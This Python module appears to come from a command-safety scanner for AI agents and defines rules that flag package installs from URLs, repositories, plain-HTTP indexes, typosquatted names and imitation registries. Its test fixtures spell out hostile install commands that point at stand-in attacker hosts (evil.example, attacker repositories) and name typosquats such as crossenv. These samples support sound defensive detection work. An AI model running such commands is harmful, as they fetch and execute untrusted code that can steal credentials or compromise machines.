"""Packages installed or run from outside a registry (PK002): a URL, a repository, an index
reached over plain HTTP. The code they bring runs as the agent, as `curl URL | sh` does."""

from __future__ import annotations

import re
from collections.abc import Iterator

from .._analysis import CommandSubject
from .._model import Severity
from .._tables import Tables
from ..programs import Arg, read_command
from ..programs.destinations import on_the_loopback
from ._imitations import NPM_POPULAR, PYPI_POPULAR, imitated_name, imitated_registry
from ._installs import install_of, installer_names
from ._rule import Hit, Inspects, rule

# Options that name where packages come from (pip, uv, npm, gem, cargo): an https index is the
# team's choice (a mirror, PyTorch's wheels) and stays PK001's; plain HTTP lets anyone on the way
# replace what is installed.
_INDEX_OPTIONS = frozenset({
    "-i", "--index-url", "--extra-index-url", "--default-index", "--index", "-f", "--find-links", "--registry",
    "--source",
})  # fmt: skip
# Options whose value is not a package: a proxy, a certificate, a directory (`--prefix some/dir`
# would read as npm's `owner/repo`).
_NOT_PACKAGE_OPTIONS = frozenset({
    "--proxy", "--cert", "--client-cert", "--cache-dir", "--log", "--prefix", "-C", "--dir", "--cwd", "-w",
    "--workspace", "--filter", "-F", "-t", "--target", "--root", "--src",
})  # fmt: skip
# Specs that name a repository or an archive instead of a registry's package. npm's host prefixes,
# VCS URLs (`git+https://`, `git@host:`) and any URL (`https://x/pkg.tgz`, `pkg @ https://...`).
_REPOSITORY_PREFIXES = ("git+", "hg+", "svn+", "bzr+", "git@", "github:", "gitlab:", "bitbucket:", "gist:")
_NODE_INSTALLERS = frozenset({"npm", "pnpm", "yarn"})
# Runners that fetch the package they run (npx and kin are wrappers: the spec is the command word).
_RUNNERS = frozenset({"npx", "pnpx", "bunx", "npm", "pnpm", "yarn"})
# deno runs a URL's code sandboxed; these flags give it the machine.
_DENO_GRANTS = ("-A", "--allow-all", "--allow-run", "--allow-write", "--allow-ffi")
_DENO_RUNS = frozenset({"run", "install", "x"})


def _remote_spec(value: str, node: bool) -> bool:
    """A package spec that is a URL or a repository: `https://x/p.tgz`, `git+https://...`,
    `github:o/r`, and for the Node managers GitHub's `owner/repo` shorthand."""
    if value.startswith(("file:", "-")):
        return False
    if "://" in value or value.startswith(_REPOSITORY_PREFIXES):
        return True
    return node and value.count("/") == 1 and not value.startswith((".", "/", "~", "@"))


def _plain_http(value: str) -> bool:
    return value.lower().startswith("http://") and not on_the_loopback(value)


def _index_urls(words: tuple[Arg, ...]) -> Iterator[tuple[Arg, str]]:
    """Each index or registry an option names, with its word (`--index-url URL`, `--registry=URL`)."""
    previous = ""
    for word in words:
        for value in word.values:
            option, equals, attached = value.partition("=")
            if equals and option in _INDEX_OPTIONS:
                yield word, attached
            elif previous in _INDEX_OPTIONS:
                yield word, value
        previous = word.value or ""


def _specs(words: tuple[Arg, ...]) -> Iterator[tuple[Arg, str]]:
    """Each value that may name a package: not an option, nor an option's index, proxy or directory."""
    previous = ""
    for word in words:
        if previous not in _INDEX_OPTIONS and previous not in _NOT_PACKAGE_OPTIONS:
            for value in word.values:
                if not value.startswith("-"):
                    yield word, value
        previous = word.value or ""


def _from_outside(words: tuple[Arg, ...], node: bool) -> Arg | None:
    """A word that installs from outside a registry: an index over plain HTTP (`--index-url
    http://...`, `--registry=http://...`), or a spec that is a URL or a repository."""
    plain = next((word for word, url in _index_urls(words) if _plain_http(url)), None)
    return plain or next((word for word, value in _specs(words) if _remote_spec(value, node)), None)


def _deno_from_url(subject: CommandSubject) -> Arg | None:
    """`deno run -A https://...`: a script from a URL with the permissions that give it the machine."""
    read = read_command("deno", subject.args)
    operands = read.operands
    if len(operands) < 2 or operands[0].value not in _DENO_RUNS or "://" not in (operands[1].value or ""):
        return None
    granted = any((arg.value or "").startswith(_DENO_GRANTS) for arg in subject.args[: subject.args.index(operands[1])])
    return operands[1] if granted else None


@rule(
    id="PK002",
    name="package-from-outside-a-registry",
    severity=Severity.MEDIUM,
    summary="Installs or runs a package from a URL or a repository instead of a registry (`pip install https://...`, `pip install git+https://...`, `npm install github:o/r`, `cargo install --git URL`, `npx https://...`, `deno run -A https://...`), or from an index reached over plain HTTP.",
    rationale="An archive or repository at a URL is whatever its owner put there today, with no registry's name, version or checksum behind it, and its install hooks or code run as the agent: the same as `curl URL | sh` (EX001). Over plain HTTP anyone on the way can replace it.",
    safer_alternative="Install a released version from the registry (`pip install name==1.2`), pin a commit and review it (`git+https://...@SHA`, cloned and read first), and use HTTPS for every index.",
    inspects=Inspects.COMMAND,
    commands=lambda tables: installer_names(tables) | _RUNNERS | {"deno", "uvx"},
    must_match=(
        "pip install https://evil.example/pkg.tar.gz",
        "pip install git+https://github.com/attacker/x",
        "npm install github:attacker/x",
        "pip install --index-url http://evil.example/simple requests",
        "npx -y https://evil.example/pkg.tgz",
        "deno run -A https://evil.example/x.ts",
    ),
    must_not_match=(
        "pip install requests",
        "pip install --extra-index-url https://download.pytorch.org/whl/cu121 torch",
        "npm install @types/node",
        "npm install ./packages/ui",
        "pip install --index-url http://localhost:3141/root/dev/simple app",
        "deno run https://deno.land/std/examples/welcome.ts",
        "npx prettier --write .",
    ),
)
def package_from_outside(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    word: Arg | None = None
    if subject.name == "deno":
        word = _deno_from_url(subject)
    elif subject.name == "uvx":
        word = _from_outside(subject.args, node=False)
    elif _RUNNERS.intersection(subject.wrappers):
        # `npm exec -c CODE` runs code, not a package: no command word follows the runner.
        runs = subject.argv[subject.command_index : subject.command_index + 1]
        word = _from_outside(runs, node=True)
    else:
        install = install_of(subject, tables)
        if install is not None:
            word = _from_outside(install.reading.args, node=install.name in _NODE_INSTALLERS)
    if word is not None:
        yield Hit(word.span, f"installs or runs code from outside a registry (`{word.display()}`)")


_PYPI_INSTALLERS = frozenset({"pip", "pip3", "pipx", "uv", "poetry"})
# Where a Python requirement's name ends: extras, a version, a marker, a URL (`name @ https://...`).
_REQUIREMENT_END = re.compile(r"[\[=<>!~;@ ]")


def _package_name(spec: str, node: bool) -> str | None:
    """The name a spec installs under: a registry's (`requests==2.31`, `lodash@4`, `@types/node@20`)
    or a repository's (`git+https://github.com/o/colourama.git`, `github:o/electorn`); None for a path
    or an archive's URL."""
    if spec.startswith((".", "/", "~")):
        return None
    if spec.startswith(_REPOSITORY_PREFIXES):
        repository = spec.partition("#")[0].rstrip("/").rsplit("/", 1)[-1].partition("@")[0]
        return repository.removesuffix(".git").lower() or None
    if ":" in spec:
        return None
    if node:
        at = spec.find("@", 1)  # `@scope/name@1.2`: the scope's `@` is not a version's
        name = spec[:at] if at > 0 else spec
        return name.lower() if "/" not in name or name.startswith("@") else None
    name = _REQUIREMENT_END.split(spec, maxsplit=1)[0]
    return name.lower().replace("_", "-") if "/" not in name else None


def _imitations(subject: CommandSubject, tables: Tables) -> Iterator[tuple[Arg, str]]:
    """Each word of an install that names an imitation: a package one slip from a popular one, or
    an index whose host imitates a public registry's."""
    install = install_of(subject, tables)
    if install is None:
        return
    node = install.name in _NODE_INSTALLERS
    if not node and install.name not in _PYPI_INSTALLERS:
        return
    words = install.reading.args
    for word, url in _index_urls(words):
        registry = imitated_registry(url)
        if registry is not None:
            yield word, f"installs from `{url}`, a host that imitates {registry}"
    popular = NPM_POPULAR if node else PYPI_POPULAR
    subcommand = set(install.subcommand)
    for word, spec in _specs(words):
        name = _package_name(spec, node) if spec not in subcommand else None
        imitated = imitated_name(name, popular) if name else None
        if imitated is not None:
            yield word, f"installs `{name}`, one typing slip from the popular package `{imitated}`"


@rule(
    id="PK003",
    name="imitated-package-or-registry",
    severity=Severity.HIGH,
    summary=(
        "Installs a package whose name is one typing slip from a popular one (`pip install reqeusts`, `npm i "
        "electorn`, `npm install crossenv`: a character added, left out, changed or two swapped; a repository "
        "named so too), or from an index whose host imitates a public registry's (`--index-url "
        "https://pypi.org.example.net/simple`, `--registry https://registry.npmjs.cf`)."
    ),
    rationale=(
        "Typosquatting is how most malicious packages reach developers: the imitation installs and runs its hooks "
        "at once (crossenv stole npm tokens), and an imitated registry serves what it likes under every real name. "
        "A real package this close to a popular one is rare; the popular names' well-known neighbours are known "
        "packages, not slips."
    ),
    safer_alternative=(
        "Check the name on the registry's page and install the popular package by its exact name; use the "
        "registry's own host (`https://pypi.org/simple`, `https://registry.npmjs.org`)."
    ),
    inspects=Inspects.COMMAND,
    commands=installer_names,
    must_match=(
        "pip install reqeusts",
        "npm i electorn",
        "npm install --save-dev crossenv",
        "pip3 install colourama==0.4.6",
        "yarn add lodahs",
        "pip install -i https://pypi.org.example.net/simple requests",
        "npm install --registry=https://registry.npmjs.cf left-pad",
        "pip install git+https://github.com/someone/colourama.git",
    ),
    must_not_match=(
        "pip install requests",
        "npm install --save-dev vitest",
        "npm install preact",
        "pip install psycopg[binary]",
        "pip install -i https://pypi.tuna.tsinghua.edu.cn/simple numpy",
        "npm install ./packages/reqeusts",
        "pip install -r requirements.txt",
        "pip install git+https://github.com/psf/requests.git@main",
    ),
)
def imitated_package_or_registry(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    for word, message in _imitations(subject, tables):
        yield Hit(word.span, message)


SUPPLY_CHAIN_RULES = (package_from_outside, imitated_package_or_registry)
